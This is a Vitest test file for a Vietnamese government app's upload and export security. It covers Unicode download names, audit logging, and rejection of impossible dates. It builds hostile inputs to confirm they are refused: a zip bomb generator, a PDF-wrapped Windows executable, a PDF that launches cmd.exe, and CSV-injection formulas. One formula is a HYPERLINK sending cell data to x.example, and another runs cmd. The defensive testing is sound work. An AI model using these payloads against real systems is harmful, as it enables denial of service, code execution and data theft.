// Files and spreadsheets that cannot hurt anyone: Vietnamese file names survive the download header, zip bombs are
// refused without the server's memory growing, exports neutralise formulas, a PDF that only starts like one and
// carries a program is refused, impossible dates are refused, and every upload and download is in the audit log.
import { crc32, deflateRawSync } from "node:zlib";
import { Document, Packer, Paragraph } from "docx";
import { and, eq } from "drizzle-orm";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLog, plans } from "../src/db/schema.js";
import { multipart, readXlsx, xlsx } from "./support/files.js";
import { PDF, PNG } from "./support/sample-files.js";
import { type Client, createTestApp, type TestApp } from "./support/test-app.js";

let t: TestApp;
let office: Client;
let focal: Client;
let ward: number;

beforeAll(async () => {
  t = await createTestApp();
  office = await t.as("noivu.vinhlong");
  focal = await t.as("daumoi.phuong1");
  ward = await t.unitId("VL-TPVL-P1");
});
afterAll(() => t?.close());

async function uploadEvidence(c: Client, name: string, data: Buffer) {
  const form = new FormData();
  form.append("unitId", String(ward));
  form.append("file", new Blob([new Uint8Array(data)]), name);
  const req = new Request("http://local/", { method: "POST", body: form });
  return c.request("POST", "/api/files", Buffer.from(await req.arrayBuffer()), { headers: { "content-type": req.headers.get("content-type") as string } });
}

async function uploadImport(c: Client, kind: string, name: string, data: Buffer) {
  const { body, contentType } = await multipart(kind, name, data);
  return c.request("POST", "/api/imports", body, { headers: { "content-type": contentType } });
}

/** RFC 6266: the UTF-8 name from `filename*`, as a browser reads it. */
function nameFromDisposition(header: string): { ascii: string; utf8: string } {
  const ascii = /filename="([^"]*)"/.exec(header)?.[1] ?? "";
  const star = /filename\*=UTF-8''([^;]+)/.exec(header)?.[1] ?? "";
  return { ascii, utf8: decodeURIComponent(star) };
}

interface ZipPart {
  name: string;
  data: Buffer; // as stored (deflated when method is 8)
  size: number; // declared uncompressed size
  crc?: number;
}

/** A zip written by hand, so the declared sizes can lie. */
function zip(parts: ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(p.crc ?? 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(p.size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(p.crc ?? 0, 16);
    central.writeUInt32LE(p.data.length, 20);
    central.writeUInt32LE(p.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, p.data);
    centrals.push(central, name);
    offset += 30 + name.length + p.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const deflated = (text: string): ZipPart["data"] => deflateRawSync(Buffer.from(text, "utf8"));
const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>';

/** An XLSX-looking zip bomb just under `limit` bytes: many entries of 100 MB of zeros each, deflated. */
function bomb(limit: number, lie: boolean): Buffer {
  const zeros = Buffer.alloc(100 * 1024 * 1024);
  const chunk = deflateRawSync(zeros, { level: 9 });
  const head = zip([{ name: "[Content_Types].xml", data: deflated(CONTENT_TYPES), size: Buffer.byteLength(CONTENT_TYPES) }]);
  const count = Math.floor((limit - head.length - 4096) / (chunk.length + 120));
  return zip([
    { name: "[Content_Types].xml", data: deflated(CONTENT_TYPES), size: Buffer.byteLength(CONTENT_TYPES) },
    ...Array.from({ length: count }, (_, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, data: chunk, size: lie ? 2048 : zeros.length })),
  ]);
}

/** Peak growth of the process's memory (RSS and array buffers, MB) while `run` is under way. */
async function peakGrowth<T>(run: () => Promise<T>): Promise<{ result: T; rss: number; arrayBuffers: number }> {
  const before = process.memoryUsage();
  let rss = 0;
  let arrayBuffers = 0;
  const sample = () => {
    const m = process.memoryUsage();
    rss = Math.max(rss, m.rss - before.rss);
    arrayBuffers = Math.max(arrayBuffers, m.arrayBuffers - before.arrayBuffers);
  };
  const timer = setInterval(sample, 2);
  try {
    const result = await run();
    sample();
    return { result, rss: rss / 1048576, arrayBuffers: arrayBuffers / 1048576 };
  } finally {
    clearInterval(timer);
  }
}

describe("download names", () => {
  it("uploads and downloads a file named in Vietnamese; the header parses and keeps the name (filename*)", async () => {
    const name = "Kế hoạch CCHC năm 2026.pdf";
    const up = await uploadEvidence(focal, name, PDF);
    expect(up.status, JSON.stringify(up.body)).toBe(201);
    expect(up.body.name).toBe(name);
    const back = await office.get(`/api/files/${up.body.id}`);
    expect(back.status).toBe(200);
    expect(back.raw.equals(PDF)).toBe(true);
    const header = String(back.headers["content-disposition"]);
    expect(header).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9!#$&+\-.^_`|~%]+$/);
    expect(nameFromDisposition(header)).toEqual({ ascii: "Ke hoach CCHC nam 2026.pdf", utf8: name });
  });

  it("cleans control characters and bidi overrides out of a file name", async () => {
    const boundary = "----tenTepLa";
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="unitId"\r\n\r\n${ward}\r\n`),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="bao\u0007cao\u202Equy\u0001.pdf"\r\n\r\n`, "utf8"),
      PDF,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const up = await focal.request("POST", "/api/files", body, { headers: { "content-type": `multipart/form-data; boundary=${boundary}` } });
    expect(up.status, JSON.stringify(up.body)).toBe(201);
    expect(up.body.name).toBe("baocaoquy.pdf");
    const back = await focal.get(`/api/files/${up.body.id}`);
    expect(nameFromDisposition(String(back.headers["content-disposition"])).utf8).toBe("baocaoquy.pdf");
  });

  it("writes every upload and download to the audit log", async () => {
    const up = await uploadEvidence(focal, "Biên bản họp.pdf", PDF);
    await office.get(`/api/files/${up.body.id}`);
    const rows = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entity, "file"), eq(auditLog.entityId, up.body.id)));
    expect(rows.map((r) => [r.action, r.actorName !== null, r.unitId])).toEqual([
      ["file.upload", true, ward],
      ["file.download", true, ward],
    ]);
    expect(rows[0].summary).toContain('"Biên bản họp.pdf"');
    expect(rows[0].after).toMatchObject({ mime: "application/pdf", size: PDF.length, sha256: up.body.sha256 });
  });
});

describe("uploads are checked for what they are, not what they start with", () => {
  it("refuses a PDF header followed by a Windows program, keeping nothing", async () => {
    const exe = Buffer.concat([
      Buffer.from("%PDF-1.7\n"),
      Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00", "latin1"),
      Buffer.alloc(50),
      Buffer.from("This program cannot be run in DOS mode.\r\r\n$", "latin1"),
      Buffer.alloc(200, 0x90),
    ]);
    const before = await t.database.db.select().from(auditLog).where(eq(auditLog.action, "file.upload"));
    const res = await uploadEvidence(focal, "ke-hoach.pdf", exe);
    expect(res.status).toBe(400);
    expect(res.body.code).toBe("FILE_STRUCTURE");
    expect(res.body.message).toContain('Tệp "ke-hoach.pdf" không phải PDF hợp lệ');
    expect(res.body.message).toContain("tệp thực thi");
    const after = await t.database.db.select().from(auditLog).where(eq(auditLog.action, "file.upload"));
    expect(after.length).toBe(before.length);
  });

  it("refuses a PDF without its cross-reference table, and one that launches a program", async () => {
    const headOnly = await uploadEvidence(focal, "a.pdf", Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
    expect(headOnly.status).toBe(400);
    expect(headOnly.body.message).toContain("startxref");
    const launch = PDF.toString("latin1").replace("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>");
    const res = await uploadEvidence(focal, "b.pdf", Buffer.from(launch, "latin1"));
    expect(res.status).toBe(400);
    expect(res.body.message).toContain("/Launch");
  });

  it("accepts real PNG, DOCX and XLSX files and refuses broken ones", async () => {
    expect((await uploadEvidence(focal, "anh.png", PNG)).status).toBe(201);
    const truncated = await uploadEvidence(focal, "anh-hong.png", PNG.subarray(0, 40));
    expect(truncated.status).toBe(400);
    expect(truncated.body.message).toContain("không phải ảnh PNG hợp lệ");

    const docx = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph("Báo cáo thành tích")] }] }));
    expect((await uploadEvidence(focal, "bao-cao.docx", docx)).status).toBe(201);
    expect(
      (
        await uploadEvidence(
          focal,
          "so-lieu.xlsx",
          await xlsx([
            ["Chỉ tiêu", "Giá trị"],
            ["Hồ sơ đúng hạn", 98],
          ]),
        )
      ).status,
    ).toBe(201);

    // A Word file that lost its main part (file-type still calls it DOCX from its content types).
    const types = CONTENT_TYPES.replace("/xl/workbook.xml", "/word/document.xml").replace("spreadsheetml.sheet.main", "wordprocessingml.document.main");
    const hollow = zip([
      { name: "[Content_Types].xml", data: deflated(types), size: Buffer.byteLength(types), crc: crc32(types) },
      { name: "_rels/.rels", data: deflated("<Relationships/>"), size: 16, crc: crc32("<Relationships/>") },
    ]);
    const res = await uploadEvidence(focal, "rong.docx", hollow);
    expect(res.status).toBe(400);
    expect(res.body.message).toMatch(/word\/document\.xml|không phải|không nhận dạng/);
  });
});

describe("zip bombs", () => {
  const limit = 10 * 1024 * 1024;
  for (const lie of [false, true]) {
    it(`refuses an XLSX bomb at the 10 MB import limit (${lie ? "declared sizes lie" : "declared sizes honest"}) with memory growth under 100 MB`, async () => {
      const file = bomb(limit, lie);
      expect(file.length).toBeLessThan(limit);
      expect(file.length).toBeGreaterThan(limit * 0.9);
      const { result, rss, arrayBuffers } = await peakGrowth(() => uploadImport(office, "units", "bom.xlsx", file));
      expect(result.status, JSON.stringify(result.body)).toBe(400);
      expect(result.body.code).toBe(lie ? "BAD_FILE" : "ZIP_TOO_LARGE");
      expect(result.body.message).toMatch(/tệp Excel/i);
      expect(rss).toBeLessThan(100);
      expect(arrayBuffers).toBeLessThan(100);
    });
  }

  it("refuses a DOCX evidence bomb the same way", async () => {
    const zeros = Buffer.alloc(64 * 1024 * 1024);
    const chunk = deflateRawSync(zeros, { level: 9 });
    const types = CONTENT_TYPES.replace("/xl/workbook.xml", "/word/document.xml").replace("spreadsheetml.sheet.main", "wordprocessingml.document.main");
    const file = zip([
      { name: "[Content_Types].xml", data: deflated(types), size: Buffer.byteLength(types) },
      ...Array.from({ length: 8 }, (_, i) => ({ name: i ? `word/media/${i}.xml` : "word/document.xml", data: chunk, size: zeros.length })),
    ]);
    const { result, rss } = await peakGrowth(() => uploadEvidence(focal, "bom.docx", file));
    expect(result.status, JSON.stringify(result.body)).toBe(400);
    expect(result.body.message).toContain("giải nén vượt quá");
    expect(rss).toBeLessThan(100);
  });
});

describe("exports neutralise formulas (CSV injection)", () => {
  const evil = ['=HYPERLINK("http://x.example/?l="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2", "-2+3"];

  it("escapes formula-leading cells in the CSV and XLSX exports of units and people", async () => {
    const parentId = await t.unitId("VL-TPVL-P1");
    for (const [i, name] of evil.entries()) {
      const res = await office.post("/api/units", { code: `VL-INJ-${i}`, name, kind: "hamlet", parentId });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const person = await office.post("/api/people", { unitId: parentId, fullName: "=1+2", position: "@SUM(A1)", sex: "nam", category: "cong_chuc" });
    expect(person.status, JSON.stringify(person.body)).toBe(201);

    const csv = (await office.get("/api/export/units?format=csv")).raw.toString("utf8").replace(/^\uFEFF/, "");
    const csvCells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    const xl = await readXlsx((await office.get("/api/export/units?format=xlsx")).raw);
    for (const name of evil) {
      expect(csvCells.some((row) => row[1] === `'${name}`)).toBe(true);
      expect(xl.some((row) => row[1] === `'${name}`)).toBe(true);
      expect(xl.some((row) => row[1] === name)).toBe(false);
    }
    for (const cell of csvCells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const people = await readXlsx((await office.get(`/api/export/people?format=xlsx&unitId=${parentId}`)).raw);
    const row = people.find((r) => r[1] === "'=1+2");
    expect(row?.[5]).toBe("'@SUM(A1)");
    const peopleCsv = (await office.get(`/api/export/people?format=csv&unitId=${parentId}`)).raw.toString("utf8");
    expect(peopleCsv).toContain("'=1+2");
    expect(peopleCsv).not.toMatch(/(^|,)"?=1\+2/m);
  });

  it("re-imports an exported file unchanged: the escape is read back", async () => {
    const exported = (await office.get(`/api/export/units?format=xlsx`)).raw;
    const res = await uploadImport(office, "units", "don-vi.xlsx", exported);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const preview = JSON.stringify(res.body.preview);
    expect(preview).toContain('"=1+2"');
    expect(preview).toContain('"@SUM(1+1)*cmd|');
    expect(preview).not.toContain("'=1+2");
  });
});

describe("dates that do not exist", () => {
  it("refuses 30 February and 29 February 2026 wherever the API takes a date", async () => {
    for (const birthDate of ["2026-02-30", "2026-02-29", "2025-04-31"]) {
      const res = await office.post("/api/people", { unitId: ward, fullName: "Ngày Sai", sex: "nam", category: "cong_chuc", birthDate });
      expect(res.status).toBe(400);
      expect(res.body.message).toContain("không có trên lịch");
    }
    const audit = await office.get("/api/audit?from=2026-02-30");
    expect(audit.status).toBe(400);
    expect(audit.body.message).toContain("không có trên lịch");
  });

  it("refuses a plan dated 30 February when it is checked, saved, or launched (even a draft saved before the rule)", async () => {
    const draft = (await office.post("/api/plans", { issuerUnitId: await t.unitId("VL-TPVL"), template: "003-vinh-long-2024.yaml" })).body;
    const bad = { ...draft.data, issuedOn: "2026-02-30" };
    const check = await office.post("/api/plans/check", { data: bad });
    expect(check.body.ok).toBe(false);
    expect(JSON.stringify(check.body.issues)).toContain("không có trên lịch");
    const saved = await office.request("PUT", `/api/plans/${draft.id}`, {
      version: draft.version,
      data: { ...draft.data, period: { ...draft.data.period, to: "2026-02-29" } },
    });
    expect(saved.status).toBe(400);
    expect(saved.body.message).toContain("không có trên lịch");
    // A draft stored with an impossible date (before this rule) cannot launch.
    await t.database.db.update(plans).set({ data: bad }).where(eq(plans.id, draft.id));
    const launched = await office.post(`/api/plans/${draft.id}/launch`, { version: draft.version });
    expect(launched.status).toBe(400);
    expect(launched.body.message).toContain("không có trên lịch");
  });
});
